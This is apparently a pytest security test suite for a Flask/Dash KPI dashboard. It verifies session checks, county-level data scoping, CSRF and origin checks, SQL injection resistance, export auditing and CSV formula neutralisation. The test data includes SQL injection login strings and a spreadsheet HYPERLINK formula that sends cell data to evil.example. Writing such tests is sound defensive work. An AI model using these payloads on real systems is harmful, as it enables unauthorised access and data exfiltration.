"""No session, no data; a county user reaches only their county, whatever they send."""
from __future__ import annotations

import json

import pytest
from flask import Flask

from kpis.appdb import AppDb

from .conftest import FORMULA_TEXT, SQL_PAYLOADS, cookie_csrf, rows_json

X1_UNITS = {"X1", "S1", "G1"}
X2_UNITS = {"X2", "S2", "G2"}
DASH_ENDPOINTS = ("/_dash-layout", "/_dash-dependencies", "/_dash-update-component")


def _callback_payload(org: object) -> dict[str, object]:
    return {"output": "page-rows.children", "outputs": {"id": "page-rows", "property": "children"},
            "inputs": [{"id": "page-org", "property": "value", "value": org}],
            "changedPropIds": ["page-org.value"], "state": []}


def _units(rows: list[dict[str, object]]) -> set[object]:
    return {r["org_no"] for r in rows}


def test_every_route_without_a_session_returns_no_data(app: Flask):
    client = app.test_client()
    for rule in app.url_map.iter_rules():
        if rule.endpoint in ("auth_login", "auth_healthz", "static") or rule.arguments:
            continue
        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
            resp = client.open(rule.rule, method=method, json={})
            body = resp.get_data(as_text=True)
            assert resp.status_code in (302, 401), (rule.rule, method, resp.status_code)
            assert "rows" not in body and "X1" not in body, (rule.rule, method)


@pytest.mark.parametrize("path", DASH_ENDPOINTS + ("/api/values", "/export/values.csv",
                                                   "/admin/audit.csv"))
def test_callbacks_exports_and_apis_answer_401_json_without_a_session(app: Flask, path: str):
    client = app.test_client()
    method = "POST" if path == "/_dash-update-component" else "GET"
    resp = client.open(path, method=method, json=_callback_payload("X1"),
                       headers={"Accept": "text/html,application/json"})
    assert resp.status_code == 401
    assert resp.is_json and "error" in resp.get_json()


def test_pages_without_a_session_redirect_to_login(app: Flask):
    resp = app.test_client().get("/", headers={"Accept": "text/html"})
    assert resp.status_code == 302 and resp.headers["Location"].startswith("/login")


def test_healthz_and_login_stay_open(app: Flask):
    client = app.test_client()
    assert client.get("/healthz").status_code == 200
    assert client.get("/login").status_code == 200


def test_county_user_sees_only_their_county(client_for):
    rows = rows_json(client_for("mgr1").get("/api/values?kpi=repair.rate"))
    assert {(r["org_no"], r["value"]) for r in rows} == {("X1", 11.0), ("S1", 12.0), ("G1", 13.0)}


@pytest.mark.parametrize("org", ["X2", "G2", "S2", "C0", "x2", " X2", "X2,X1", "X1/../X2"])
def test_editing_the_url_reaches_no_other_county(client_for, org: str):
    assert rows_json(client_for("mgr1").get("/api/values", query_string={"org": org})) == []


def test_drilling_down_inside_the_scope_works(client_for):
    assert _units(rows_json(client_for("mgr1").get("/api/values?org=S1"))) == {"S1", "G1"}


@pytest.mark.parametrize("org", ["X2", "G2", ["X2"], {"org": "X2"}, None, 7])
def test_tampered_callback_payload_reaches_no_other_county(client_for, org: object):
    client = client_for("mgr1")
    resp = client.post("/_dash-update-component", json=_callback_payload(org),
                       headers={"X-CSRFToken": cookie_csrf(client)})
    assert resp.status_code == 200
    assert _units(rows_json(resp)) <= X1_UNITS


def test_dash_post_without_the_csrf_header_is_refused(client_for):
    resp = client_for("mgr1").post("/_dash-update-component", json=_callback_payload("X1"))
    assert resp.status_code == 403 and "rows" not in resp.get_data(as_text=True)


def test_cross_site_post_is_refused_even_with_the_token(client_for):
    client = client_for("mgr1")
    resp = client.post("/_dash-update-component", json=_callback_payload("X1"),
                       headers={"X-CSRFToken": cookie_csrf(client),
                                "Origin": "https://evil.example"})
    assert resp.status_code == 403




@pytest.mark.parametrize("payload", SQL_PAYLOADS)
def test_sql_injection_in_filters_changes_nothing_and_leaks_nothing(client_for, payload: str):
    client = client_for("mgr1")
    assert rows_json(client.get("/api/values", query_string={"org": payload})) == []
    by_kpi = rows_json(client.get("/api/values", query_string={"kpi": payload}))
    assert by_kpi == []
    resp = client.post("/_dash-update-component", json=_callback_payload(payload),
                       headers={"X-CSRFToken": cookie_csrf(client)})
    assert rows_json(resp) == []
    # the table is intact and the user's own rows are unchanged afterwards
    after = rows_json(client.get("/api/values?kpi=repair.rate"))
    assert {(r["org_no"], r["value"]) for r in after} == {("X1", 11.0), ("S1", 12.0), ("G1", 13.0)}


def test_sql_injection_in_the_login_form_logs_nobody_in(app: Flask):
    from .conftest import csrf_of
    client = app.test_client()
    for name in ("' OR '1'='1", "boss' --", "boss\" OR \"\"=\""):
        resp = client.post("/login", data={"username": name, "password": "' OR '1'='1",
                                           "csrf_token": csrf_of(client)})
        assert resp.status_code in (401, 429)
        assert client.get("/api/values").status_code == 401


def test_two_users_of_different_counties_one_after_the_other_see_their_own_rows(client_for):
    first = rows_json(client_for("mgr1").get("/api/values?kpi=repair.rate"))
    second = rows_json(client_for("mgr2").get("/api/values?kpi=repair.rate"))
    again = rows_json(client_for("mgr1").get("/api/values?kpi=repair.rate"))
    assert _units(first) == X1_UNITS == _units(again)
    assert _units(second) == X2_UNITS


def test_manager_may_not_export_and_duty_may_acknowledge(client_for):
    assert client_for("mgr1").get("/export/values.csv").status_code == 403
    duty = client_for("duty1")
    assert duty.post("/api/ack", headers={"X-CSRFToken": cookie_csrf(duty)}).get_json() == \
        {"ok": True, "user": "duty1"}
    mgr = client_for("mgr1")
    assert mgr.post("/api/ack", headers={"X-CSRFToken": cookie_csrf(mgr)}).status_code == 403


def test_analyst_export_holds_only_their_scope_and_is_audited(client_for, appdb: AppDb):
    pytest.importorskip("kpis.export", reason="kpis/export.py (web helper) not written yet")
    client = client_for("ana1")
    resp = client.get("/export/values.csv?org=X2")
    assert resp.status_code == 200
    assert resp.get_data().decode("utf-8-sig").splitlines() == ["kpi_id,org_no,value,note"]
    text = client.get("/export/values.csv").get_data().decode("utf-8-sig")
    units = {line.split(",")[1] for line in text.splitlines()[1:]}
    assert units == X1_UNITS
    audit = appdb.audit_rows(event="export")
    assert [(r["user"], r["row_count"]) for r in audit] == [("ana1", 3), ("ana1", 0)]
    assert json.loads(audit[1]["detail"])["filters"] == {"org": "X2"}


def test_formula_text_comes_out_of_csv_neutralised(client_for):
    pytest.importorskip("kpis.export", reason="kpis/export.py (web helper) not written yet")
    from kpis.export import csv_chunks
    raw = b"".join(csv_chunks(["note"], [[[FORMULA_TEXT], ["@SUM(A1:A9)"], ["+1+2"], ["-3"],
                                          ["plain"], [42]]]))
    lines = raw.decode("utf-8-sig").splitlines()
    assert lines[1] == "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点我\"\")\""
    assert lines[2:] == ["'@SUM(A1:A9)", "'+1+2", "'-3", "plain", "42"]
